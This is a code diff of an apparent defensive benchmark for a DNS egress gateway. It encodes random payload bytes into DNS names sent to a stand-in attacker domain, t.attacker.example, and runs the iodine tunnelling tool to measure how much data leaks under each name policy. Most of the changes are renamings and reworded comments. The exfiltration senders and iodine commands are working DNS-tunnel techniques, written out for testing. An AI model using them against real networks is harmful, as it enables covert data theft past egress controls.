@@ -10,12 +10,12 @@ import { startLeakServer } from './workers/leak-server.js'
 import { startWorker } from './workers/processes.js'
 import { table } from './workers/statistics.js'
 
-// How much gets to an attacker's name server in names: by real iodine and by what other tools send, each at a fresh gateway,
-// with policies of exact names and of wildcards. Whatever the resolver allows is also asked of the proxy, which is the
-// one that looks names up outside; the server that it asks is the attacker's.
+// How much data reaches an attacker's name server in names: sent by the real iodine and in the way of other tools, each with a
+// new gateway, under policies with exact names and with wildcards. The proxy is asked for each name too, because only the
+// proxy looks names up outside, and its name server is the attacker's.
 //
-// iodine needs port 53 and a tun device, so all of it runs in a network namespace of its own. In a sandbox iodine does not
-// get as far: there is no tun device.
+// iodine needs port 53 and a tun device, so everything runs in its own network namespace. In a sandbox, iodine would not even
+// start, because there is no tun device.
 
 const DOMAIN = 't.attacker.example'
 const PAYLOAD = 4096
@@ -23,32 +23,32 @@ const IODINE_TYPES = ['NULL', 'PRIVATE', 'TXT', 'SRV', 'MX', 'CNAME', 'A']
 const IODINE_CODECS = ['Base32', 'Base64', 'Base64u', 'Base128']
 const IODINE_SECONDS = 3
 
-/** Null stands for no gateway at all: the sandbox's resolver is the attacker's server, so that what follows means something. */
+/** Null for no gateway: the sandbox uses the attacker's server directly. This control proves that the senders work. */
 const POLICIES = [
   { title: 'no gateway', allow: null, names: null },
   { title: 'exact', allow: 'host: api.example.com', names: null },
   ...(['default', 'strict', 'random-labels'] as const).map((profile) => ({
     title: `** ${profile}`,
-    allow: `host: "**.${DOMAIN}"\n    names: { profile: ${profile} }`,
+    allow: `host: "**.${DOMAIN}"\n    name_limits: { profile: ${profile} }`,
     names: NAME_PROFILES[profile],
   })),
 ]
 
 if (process.argv[2] !== 'inside') {
-  const words = ['--map-root-user', '--net', process.execPath, fileURLToPath(import.meta.url), 'inside']
-  process.exit(spawnSync('unshare', words, { stdio: 'inherit' }).status ?? 1)
+  const args = ['--map-root-user', '--net', process.execPath, fileURLToPath(import.meta.url), 'inside']
+  process.exit(spawnSync('unshare', args, { stdio: 'inherit' }).status ?? 1)
 }
 spawnSync('ip', ['link', 'set', 'lo', 'up'])
 
 const iodined = findProgram('iodined')
 const TUNNEL_PORT = 5353
 if (iodined !== null) {
-  const words = ['-f', '-P', 'secret', '-p', String(TUNNEL_PORT), '-l', '127.0.0.1', '10.99.0.1', DOMAIN]
-  const server = spawn(iodined, words, { stdio: 'ignore' })
+  const args = ['-f', '-P', 'secret', '-p', String(TUNNEL_PORT), '-l', '127.0.0.1', '10.99.0.1', DOMAIN]
+  const server = spawn(iodined, args, { stdio: 'ignore' })
   process.once('exit', () => server.kill())
 }
 
-/** One sender at a fresh gateway: the distinct names that arrived, and their bytes. */
+/** Runs one sender with a new gateway, and returns the distinct names that arrived and their bytes. */
 async function attack(
   allow: string | null,
   send: (gateway: Ports) => Promise<void>,
@@ -58,7 +58,7 @@ async function attack(
 upstream: { servers: ["127.0.0.1:${String(attacker.port)}"] }
 allow:
   - scheme: http
-    private: true
+    allow_private_addresses: true
     ${allow ?? ''}
 `
   const gateway = allow === null ? null : await startWorker<Ports>('dns-exfiltration-gateway', [policy])
@@ -74,14 +74,14 @@ interface Ports {
   readonly http: number
 }
 
-/** Sends the payload name by name: asks the resolver, and has the proxy look it up if there was an answer. */
+/** Sends the payload name by name, to the resolver and to the proxy. */
 async function sendAll({ bytes, labels }: Sender, gateway: Ports): Promise<void> {
   const socket = createSocket('udp4')
   const payload = randomBytes(PAYLOAD)
   for (let index = 0; index * bytes < PAYLOAD; index += 1) {
     const open = labels(payload.subarray(index * bytes, (index + 1) * bytes), index)
     await ask(socket, gateway.dns, `${open}.${DOMAIN}`)
-    // Whatever the resolver said: an attacker need not ask it.
+    // Whatever the resolver answers, because an attacker can skip it.
     await request(gateway.http, `${open}.${DOMAIN}`)
   }
   socket.close()
@@ -115,10 +115,10 @@ function request(port: number, host: string): Promise<void> {
   })
 }
 
-/** The real client, until it gives up or its time is over. */
+/** The real client, until it exits or the time is over. */
 function runIodine(program: string, type: string, codec: string): Promise<void> {
-  const words = ['-f', '-r', '-P', 'secret', '-T', type, '-O', codec, '127.0.0.1', DOMAIN]
-  const client = spawn('timeout', [String(IODINE_SECONDS), program, ...words], { stdio: 'ignore' })
+  const args = ['-f', '-r', '-P', 'secret', '-T', type, '-O', codec, '127.0.0.1', DOMAIN]
+  const client = spawn('timeout', [String(IODINE_SECONDS), program, ...args], { stdio: 'ignore' })
   return new Promise((resolve) => client.once('exit', () => resolve()))
 }
 
@@ -130,10 +130,10 @@ async function row(name: string, send: (gateway: Ports) => Promise<void>): Promi
   for (const { allow, names } of POLICIES) {
     const leaked = await attack(allow, send)
     const { names: maxNames, bytes: maxBytes } = names?.budget ?? { names: 0, bytes: 0 }
-    // Without a gateway data must arrive, or nothing was tried.
-    const held = allow === null ? leaked.bytes > 0 : leaked.names <= maxNames && leaked.bytes <= maxBytes
-    if (!held) broken += 1
-    cells.push(`${String(leaked.bytes)} in ${String(leaked.names)}${held ? '' : ' BROKEN'}`)
+    // Without a gateway, data must arrive; otherwise the sender did not work.
+    const passed = allow === null ? leaked.bytes > 0 : leaked.names <= maxNames && leaked.bytes <= maxBytes
+    if (!passed) broken += 1
+    cells.push(`${String(leaked.bytes)} in ${String(leaked.names)}${passed ? '' : ' BROKEN'}`)
   }
   rows.push(cells)
 }
@@ -143,10 +143,10 @@ if (iodine !== null && iodined !== null) {
   for (const type of IODINE_TYPES) await row(`iodine -T ${type}`, () => runIodine(iodine, type, 'Base32'))
   for (const codec of IODINE_CODECS.slice(1))
     await row(`iodine -T A -O ${codec}`, () => runIodine(iodine, 'A', codec))
-} else process.stdout.write('iodine is not installed: left out\n')
+} else process.stdout.write('iodine is not installed: skipped\n')
 
 process.stdout.write(
-  `Bytes, and names, at the attacker's name server, of ${String(PAYLOAD)} bytes of payload\n`,
+  `Bytes and names that reached the attacker's name server, for ${String(PAYLOAD)} bytes of payload\n`,
 )
 process.stdout.write(table(['', ...POLICIES.map(({ title }) => title)], rows))
 const budgets = POLICIES.map(({ allow, names }) =>
@@ -156,5 +156,5 @@ const budgets = POLICIES.map(({ allow, names }) =>
       ? '0'
       : `${String(names.budget.bytes)} in ${String(names.budget.names)}`,
 )
-process.stdout.write(table(['', ...budgets], [['the most that each lets through, above']]))
+process.stdout.write(table(['', ...budgets], [['upper bound of each policy, above']]))
 process.exit(broken > 0 ? 1 : 0)
